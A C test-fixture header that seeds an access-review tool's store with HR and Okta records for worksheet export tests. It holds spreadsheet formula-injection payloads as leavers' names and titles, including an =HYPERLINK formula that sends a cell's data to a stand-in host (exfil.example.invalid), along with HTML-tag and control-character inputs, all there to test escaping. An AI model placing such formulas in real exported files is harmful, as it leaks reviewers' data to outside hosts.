/*
 * dataset.h: the worksheet tests' store (tests/test_worksheet_xlsx.c,
 * tests/test_worksheet_html.c): case 18's hostile names
 * (tests/data/cases/18-worksheet-formula-injection) plus what the other
 * highlights need, reconciled for real, campaign Q4-2026 opened. All of
 * it is reviewed by E1800 Lea Marchetti, 12 items, in this order:
 *
 *  1   ghost@example.com, an okta account nobody in HR holds (orphan)
 *  2-9 case 18's eight leavers, by the name they go by (terminated_active)
 *  10  Lea's own okta account (she is the source's owner)
 *  11  E1810 Zoë Ångström, "R&D <Labs>": okta Everyone
 *  12  the same account: okta-admins (privileged, no finding)
 *
 * Include it once, from a test file, after the cmocka headers.
 */
#include "rollcall/config.h"
#include "rollcall/reconcile.h"
#include "rollcall/store.h"
#include "../../support/fixture.h"

#define AS_OF "2026-12-03"
#define DUE "2026-12-31"
#define NITEMS 12

static const struct {
	const char *id, *name, *title, *email, *okta_name, *last_login;
} leavers[] = {		/* in worksheet order */
	{ "E1801", "=HYPERLINK(\"https://exfil.example.invalid/?d=\"&C2,"
	  "\"Open\")", "Analyst", "mara.quell@example.com", "Mara Quell",
	  "2026-11-30T09:00:00.000Z" },
	{ "E1804", "@Pete", "Engineer", "pete.rusk@example.com",
	  "@SUM(A1:A9)", "2026-11-27T09:00:00.000Z" },
	{ "E1807", "Ngozi \"Zee\" Eze", "Manager, EMEA",
	  "ngozi.eze@example.com", "Ngozi <b>Eze</b>",
	  "2026-11-24T09:00:00.000Z" },
	{ "E1802", "Nico", "+Contractor Liaison", "nico.barre@example.com",
	  "=2+5", "2026-11-29T09:00:00.000Z" },
	{ "E1803", "Odile", "-Interim- Lead", "odile.fane@example.com",
	  "Odile Fane", "2026-11-28T09:00:00.000Z" },
	{ "E1805", "Rui", "\tOps", "rui.salas@example.com", "Rui Salas",
	  "2026-11-26T09:00:00.000Z" },
	{ "E1806", "Sade", "\rFinance", "sade.tolu@example.com", "Sade Tolu",
	  "2026-11-25T09:00:00.000Z" },
	{ "E1808", "Yann", "=1+1", "yann.vidal@example.com", "Yann Vidal",
	  "2026-11-23T09:00:00.000Z" },
};

/* Zoë's okta display name: not UTF-8 in the middle (a byte 0xff). */
#define ZOE_BAD_NAME "Zo\xc3\xab\xff" "A"

static void
dataset_load(struct store *st, struct config **cfgp)
{
	struct campaign_open_result res;
	struct reconcile_result rr;
	struct errbuf err = { "" };
	struct config *cfg;
	int64_t hr, okta, zoe;
	size_t i;

	cfg = fx_config("[source \"okta\"]\ntype = csv\nowner = E1800\n");
	hr = fx_snapshot(st, "hr", "hr");
	okta = fx_snapshot(st, "okta", "okta");
	fx_person(st, hr, &(struct fx_person){ .employee_id = "E1800",
	    .email = "lea.marchetti@example.com",
	    .display_name = "Lea Marchetti", .title = "Head of Ops",
	    .department = "Operations" });
	fx_account(st, okta, &(struct fx_account){ .source = "okta",
	    .login = "lea.marchetti@example.com",
	    .email = "lea.marchetti@example.com",
	    .display_name = "Lea Marchetti", .mfa = "enrolled",
	    .last_login = "2026-12-03T08:00:00.000Z" });
	for (i = 0; i < ARRAY_SIZE(leavers); i++) {
		fx_person(st, hr, &(struct fx_person){
		    .employee_id = leavers[i].id, .email = leavers[i].email,
		    .display_name = leavers[i].name,
		    .status = "Terminated", .status_class = "terminated",
		    .termination_date = "2026-11-16", .manager_id = "E1800",
		    .title = leavers[i].title });
		fx_account(st, okta, &(struct fx_account){ .source = "okta",
		    .login = leavers[i].email, .email = leavers[i].email,
		    .display_name = leavers[i].okta_name,
		    .last_login = leavers[i].last_login });
	}
	fx_person(st, hr, &(struct fx_person){ .employee_id = "E1810",
	    .email = "zoe.angstrom@example.com",
	    .display_name = "Zoë Ångström", .title = "SRE",
	    .department = "R&D <Labs>", .manager_id = "E1800" });
	zoe = fx_account(st, okta, &(struct fx_account){ .source = "okta",
	    .login = "zoe.angstrom@example.com",
	    .email = "zoe.angstrom@example.com",
	    .display_name = ZOE_BAD_NAME, .mfa = "enrolled",
	    .last_login = "2026-12-01T10:00:00.000Z" });
	fx_grant_new(st, okta, zoe, "okta", "Everyone", 0);
	fx_grant_new(st, okta, zoe, "okta", "okta-admins", 1);
	fx_account(st, okta, &(struct fx_account){ .source = "okta",
	    .login = "ghost@example.com", .email = "ghost@example.com",
	    .display_name = "Ghost", .last_login = "2026-12-02" });

	memset(&rr, 0, sizeof(rr));
	assert_int_equal(reconcile_run(st, cfg, AS_OF, &rr, &err), 0);
	memset(&res, 0, sizeof(res));
	assert_int_equal(store_begin(st, &err), 0);
	if (campaign_open(st, cfg, "Q4-2026", AS_OF, DUE, rr.id, &res,
	    &err) < 0)
		fail_msg("campaign_open: %s", err.msg);
	assert_int_equal(store_commit(st, &err), 0);
	assert_int_equal(res.items, NITEMS);
	/* Nobody reviews their own access: item 10 went to 'unassigned'.
	 * These tests are about the page, not the routing (test_campaign.c
	 * has that): put it back on Lea's worksheet. */
	assert_int_equal(res.reviewers, 2);
	assert_int_equal(store_exec(st, "UPDATE campaign_items SET reviewer_id"
	    " = 'E1800', reviewer_name = 'Lea Marchetti'"
	    " WHERE reviewer_id = 'unassigned'", &err), 0);
	assert_int_equal(sqlite3_changes(store_db(st)), 1);
	campaign_result_release(&res);
	*cfgp = cfg;
}
